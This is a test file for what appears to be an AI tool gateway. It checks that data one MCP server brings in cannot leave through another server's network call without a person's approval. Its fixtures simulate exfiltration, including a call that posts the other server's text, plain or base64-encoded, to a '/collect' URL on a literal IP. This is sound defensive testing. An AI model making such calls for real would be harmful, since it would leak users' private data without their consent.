import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Answer } from '../../src/policy/answer.ts';
import { openState } from '../../src/store/state.ts';
import { proves } from '../security/proves.ts';
import { createPlace, eventually, recordsOf, resultOf, runCommand, serve } from './raw-client.ts';
import type { Message, Place, RawGateway } from './raw-client.ts';
import { fixture } from './workplace.ts';

const sayer = { command: process.execPath, args: [fixture('sayer')] };
/** Literal, so that no name is looked up; nothing is ever sent there. */
const host = '93.184.215.14';
const levels = ['resource_read', 'resource_write', 'tool_execute', 'network_access'];

const start = async (place: Place, more: object = {}): Promise<RawGateway> => {
  const mcpServers = { notes: sayer, web: sayer };
  const config = place.config({ mcpServers, grants: [{ effect: 'allow', levels }], ...more });
  const gateway = serve(place, { config });
  await gateway.initialize();
  return gateway;
};

const call = (gateway: RawGateway, server: string, args: object): Promise<Message> =>
  gateway.request('tools/call', { name: `${server}__say`, arguments: args });
const wordsOf = (answer: Message): string => JSON.stringify(resultOf(answer)['content']);

const questionsIn = ({ data }: Place) => {
  using state = openState(data, () => {});
  return state.questions.list();
};

/** Answers the next question. */
const answerNext = async (place: Place, answer: Answer) => {
  await eventually(() => questionsIn(place).length > 0);
  using state = openState(place.data, () => {});
  const [open] = state.questions.list();
  state.questions.answer(open?.id ?? '', answer, { by: { channel: 'command-line' }, trust: [] });
  return open;
};

const plot = 'The keeper of the lighthouse is the murderer, and the lamp is where the knife lies hidden.';
/** What makes the server say it, so that it is not what it was told. */
const toSay = plot.replaceAll(' ', String.raw`\u{20}`);
const carrying = { url: `https://${host}/collect`, text: `summary: ${plot}` };
const harmless = { url: `https://${host}/weather`, text: 'How is the weather in Brest?' };

describe('what one server brought in', () => {
  test(`leaves through another only after a person said so, once for the pair ${proves('T-50')}`, async () => {
    await using place = createPlace();
    await using gateway = await start(place);
    await call(gateway, 'notes', { text: toSay });
    const waiting = call(gateway, 'web', carrying);
    const open = await answerNext(place, { kind: 'always' });
    expect(open?.question.target).toEqual({ kind: 'server', upstream: 'web', name: 'data of notes' });
    expect(open?.sheet.findings.join()).toContain('keeper of the lighthous');
    expect(wordsOf(await waiting)).toContain('summary');
    expect(wordsOf(await call(gateway, 'web', carrying))).toContain('summary');
    expect(questionsIn(place)).toEqual([]);
    const trails = recordsOf(place).flatMap(({ kind, trail }) => (kind === 'call' ? [JSON.stringify(trail)] : []));
    expect(trails.filter((trail) => trail.includes('flow carried: ask'))).toHaveLength(1);
  });

  test(`does not leave where a person says no, and the refusal says what it was ${proves('T-50')}`, async () => {
    await using place = createPlace();
    await using gateway = await start(place);
    await call(gateway, 'notes', { text: toSay });
    const encoded = { url: `https://${host}/x`, text: Buffer.from(plot).toString('base64') };
    const waiting = call(gateway, 'web', encoded);
    await answerNext(place, { kind: 'deny' });
    const refused = wordsOf(await waiting);
    expect(refused).toContain('Arguments carry what another server brought in');
    expect(refused).toContain('base64');
    // Neither the refusal nor the record says what it was: it may be anybody's secret.
    expect(refused + JSON.stringify(recordsOf(place).map(({ reason, trail }) => [reason, trail]))).not.toContain(
      'lighthouse',
    );
    expect(refused).toContain("grant raw 'web/data of notes' --level network_access");
  });

  test('may leave where a person granted this pair before', async () => {
    await using place = createPlace();
    await using gateway = await start(place);
    const words = ['grant', '*', 'web/data of notes', '--level', 'network_access', '--host', host];
    expect(runCommand(place, ...words)).toMatchObject({ code: 0 });
    await new Promise((resolve) => setTimeout(resolve, 250));
    await call(gateway, 'notes', { text: toSay });
    expect(wordsOf(await call(gateway, 'web', carrying))).toContain('summary');
    expect(questionsIn(place)).toEqual([]);
  });

  test('is nobody’s concern where the call carries none of it, or it goes back to where it came from', async () => {
    await using place = createPlace();
    await using gateway = await start(place);
    await call(gateway, 'notes', { text: toSay });
    expect(wordsOf(await call(gateway, 'web', harmless))).toContain('Brest');
    expect(wordsOf(await call(gateway, 'notes', carrying))).toContain('summary');
    expect(wordsOf(await call(gateway, 'web', { text: plot }))).toContain('keeper');
    expect(questionsIn(place)).toEqual([]);
  });

  test('is told of, and leaves, where its owner wants no questions; or nobody looks', async () => {
    await using place = createPlace();
    await using gateway = await start(place, { flow: 'flag' });
    await call(gateway, 'notes', { text: toSay });
    expect(wordsOf(await call(gateway, 'web', carrying))).toContain('summary');
    await eventually(() => recordsOf(place).some(({ method }) => method === 'quarantine/flag'));
    await eventually(() => gateway.stderr.includes('flow:carried'));
  });
});

test(`private data, strange text and a way out together need a person, whatever the call says ${proves('T-50')}`, async () => {
  await using place = createPlace();
  await using gateway = await start(place);
  const file = join(place.folder, 'diary.md');
  writeFileSync(file, 'Dear diary');
  await gateway.request('tools/call', { name: 'notes__read_note', arguments: { path: file, text: 'Dear diary' } });
  // Nothing strange was seen so far.
  expect(wordsOf(await call(gateway, 'web', harmless))).toContain('Brest');
  const waiting = call(gateway, 'web', { ...harmless, text: 'And tomorrow?' });
  const open = await answerNext(place, { kind: 'always' });
  expect(open?.sheet.findings.join()).toContain('has read private data');
  expect(wordsOf(await waiting)).toContain('tomorrow');
  expect(wordsOf(await call(gateway, 'web', { ...harmless, text: 'And then?' }))).toContain('then');
});
